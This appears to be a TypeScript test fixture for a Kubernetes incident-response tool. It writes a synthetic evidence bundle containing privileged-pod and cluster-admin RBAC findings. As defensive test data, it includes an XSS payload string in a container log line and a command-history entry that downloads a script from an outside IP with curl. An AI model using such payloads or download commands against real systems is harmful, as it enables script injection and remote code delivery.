// A small but realistic evidence bundle, written with the real BundleWriter: a privileged bare
// pod with findings, a web pod whose log holds attacker-controlled HTML, command history, an RBAC
// finding on default/default, a forbidden artifact and a partial one.
import { BundleWriter, newSnapshotId } from '../support/v1BundleWriter.js';
import type { ArtifactReport, Manifest } from '../../src/core/evidence/manifest.js';
import type { ArtifactId } from '../../src/core/schema/artifacts.js';
import { commandHistory, containerLogs, clusterEvents, podInventory, rbacFindings, suspiciousPods, type TableName } from '../../src/core/schema/tables.js';
import { tempDir } from '../support/tempDir.js';

export const MALICIOUS = 'GET /?q=<img src=x onerror="window.__kfsPwned=1"></script><script>window.__kfsPwned=1</script> HTTP/1.1';
export const FORBIDDEN_MESSAGE = 'serviceaccounts is forbidden: User "system:serviceaccount:ir:collector" cannot list resource "serviceaccounts" in API group "" at the cluster scope';

const common = (over: Record<string, unknown>) => ({ EventType: '', Namespace: '', PodName: '', ContainerName: '', Summary: '', Severity: '', TechniqueId: '', ...over });

const finding = (over: Record<string, unknown>) =>
  common({
    EventType: 'Finding',
    RuleId: 'R',
    FindingTitle: '',
    TechniqueName: '',
    Tactics: [],
    ResourceKind: 'Pod',
    ResourceName: '',
    FieldPath: '',
    FieldValue: '',
    Explanation: '',
    Baseline: false,
    ...over,
  });

export async function writeFixtureBundle(parent?: string): Promise<{ dir: string; manifest: Manifest }> {
  const out = parent ?? (await tempDir('kfs-ext-'));
  const started = new Date('2026-11-27T02:00:00Z');
  const w = await BundleWriter.create(out, {
    snapshotId: newSnapshotId(started),
    cluster: { context: 'aks-prod-weu', cluster: 'aks-prod-weu', server: 'https://127.0.0.1:6443', user: 'ir-user', identity: 'system:serviceaccount:ir:collector' },
    startedAt: started.toISOString(),
    options: { artifacts: ['events', 'podInventory', 'containerLogs', 'commandHistory', 'serviceAccounts', 'suspiciousPods', 'rbac'], sinceSeconds: 86400, excludeNamespaces: [], concurrency: 2, execEnabled: true },
    toolVersion: '0.0.0-test',
  });
  const write = (t: TableName, row: Record<string, unknown>) => w.write(t, row as never);

  await write(clusterEvents.name, common({ EventTime: '2026-11-27T01:20:00.0000000Z', EventType: 'Scheduled', Namespace: 'default', PodName: 'node-debugger', Summary: 'Successfully assigned default/node-debugger', Reason: 'Scheduled' }));
  await write(podInventory.name, common({ EventTime: '2026-11-27T01:20:00.0000000Z', EventType: 'PodCreated', Namespace: 'default', PodName: 'node-debugger', Summary: 'pod created', Containers: [{ name: 'debugger', image: 'docker.io/library/alpine:3.19' }] }));
  await write(podInventory.name, common({ EventTime: '2026-11-27T01:00:00.0000000Z', EventType: 'PodCreated', Namespace: 'prod-web', PodName: 'web-frontend-7d9f8b6c5d-x2k9p', Summary: 'pod created', Containers: [{ name: 'nginx' }] }));
  await write(podInventory.name, common({ EventTime: '2026-11-27T01:00:05.0000000Z', EventType: 'ContainerStarted', Namespace: 'prod-web', PodName: 'web-frontend-7d9f8b6c5d-x2k9p', ContainerName: 'istio-proxy', Summary: 'started' }));
  for (const [i, msg, prev] of [
    [1, 'booting', true],
    [1, '10.0.0.1 GET / 200', false],
    [2, MALICIOUS, false],
  ] as const) {
    await write(containerLogs.name, common({ EventTime: `2026-11-27T01:3${i}:00.0000000Z`, EventType: 'LogLine', Namespace: 'prod-web', PodName: 'web-frontend-7d9f8b6c5d-x2k9p', ContainerName: 'nginx', Summary: msg, Message: msg, Previous: prev, LineNumber: i, TimestampParsed: true, NonUtf8: false }));
  }
  await write(containerLogs.name, common({ EventTime: '2026-11-27T01:25:00.0000000Z', EventType: 'LogLine', Namespace: 'default', PodName: 'node-debugger', ContainerName: 'debugger', Summary: 'sleeping', Message: 'sleeping', Previous: false, LineNumber: 1, TimestampParsed: true }));
  await write(commandHistory.name, common({ EventTime: '2026-11-27T01:40:00.0000000Z', EventType: 'Command', Namespace: 'prod-web', PodName: 'web-frontend-7d9f8b6c5d-x2k9p', ContainerName: 'nginx', Summary: 'curl', Command: 'curl -sL http://203.0.113.7/x.sh -o /tmp/x.sh', HistoryFile: '/root/.bash_history', Shell: 'bash', User: 'root', LineNumber: 2, TimeSource: 'bash-timestamp', CollectionStatus: 'ok' }));
  await write(commandHistory.name, common({ EventTime: '2026-11-27T01:39:00.0000000Z', EventType: 'Command', Namespace: 'prod-web', PodName: 'web-frontend-7d9f8b6c5d-x2k9p', ContainerName: 'nginx', Summary: 'id', Command: 'id', HistoryFile: '/root/.bash_history', Shell: 'bash', User: 'root', LineNumber: 1, TimeSource: 'bash-timestamp', CollectionStatus: 'ok' }));
  await write(suspiciousPods.name, finding({ EventTime: '2026-11-27T01:20:00.0000000Z', Namespace: 'default', PodName: 'node-debugger', ContainerName: 'debugger', Severity: 'high', TechniqueId: 'MS-TA9013', TechniqueName: 'Privileged container', FindingTitle: 'Privileged container', ResourceName: 'node-debugger', FieldPath: 'spec.containers[0].securityContext.privileged', FieldValue: 'true', Explanation: 'Container debugger runs privileged: it has full access to the node.', Summary: 'Privileged container' }));
  await write(suspiciousPods.name, finding({ EventTime: '2026-11-27T01:20:00.0000000Z', Namespace: 'default', PodName: 'node-debugger', Severity: 'high', TechniqueId: 'MS-TA9038', TechniqueName: 'Writable hostPath mount', FindingTitle: 'hostPath / mounted', ResourceName: 'node-debugger', FieldPath: 'spec.volumes[0].hostPath.path', FieldValue: '/', Explanation: 'The node root file system is mounted into the pod.' }));
  await write(suspiciousPods.name, finding({ EventTime: '2026-11-27T01:20:00.0000000Z', Namespace: 'default', PodName: 'node-debugger', Severity: 'low', TechniqueId: 'MS-TA9017', FindingTitle: 'Bare pod', ResourceName: 'node-debugger', Explanation: 'No controller owns this pod.' }));
  await write(suspiciousPods.name, finding({ EventTime: '2026-11-27T00:00:00.0000000Z', Namespace: 'kube-system', Severity: 'medium', TechniqueId: 'MS-TA9008', FindingTitle: 'Image from a foreign registry in kube-system', ResourceKind: 'CronJob', ResourceName: 'kube-metrics-sync', Explanation: 'xmrig image in kube-system.' }));
  await write(rbacFindings.name, finding({ EventTime: '2026-11-27T01:10:00.0000000Z', Severity: 'high', TechniqueId: 'MS-TA9029', FindingTitle: 'cluster-admin bound to a service account', ResourceKind: 'ClusterRoleBinding', ResourceName: 'default-admin', Explanation: 'default/default can do anything.', SubjectKind: 'ServiceAccount', SubjectName: 'default', SubjectNamespace: 'default', Bindings: ['default-admin'], Recent: true }));

  const report = (records: number, over: Partial<ArtifactReport> = {}): ArtifactReport => ({
    status: 'ok',
    records,
    bytes: 100,
    startedAt: started.toISOString(),
    endedAt: started.toISOString(),
    gaps: [],
    error: null,
    ...over,
  });
  const artifacts: Partial<Record<ArtifactId, ArtifactReport>> = {
    events: report(1),
    podInventory: report(3),
    containerLogs: report(4),
    commandHistory: report(2, {
      status: 'partial',
      gaps: [{ artifact: 'commandHistory', scope: 'exec into prod-web/api-backend-5c6d7e8f9-abcde/metrics', status: 'failed', message: 'distroless: cat is not in the image' }],
    }),
    serviceAccounts: report(0, { status: 'forbidden', gaps: [{ artifact: 'serviceAccounts', scope: 'serviceaccounts in all namespaces', status: 'forbidden', message: FORBIDDEN_MESSAGE }] }),
    suspiciousPods: report(4),
    rbac: report(1),
  };
  const manifest = await w.seal({ status: 'partial', endedAt: new Date('2026-11-27T02:01:00Z').toISOString(), artifacts });
  return { dir: w.dir, manifest };
}
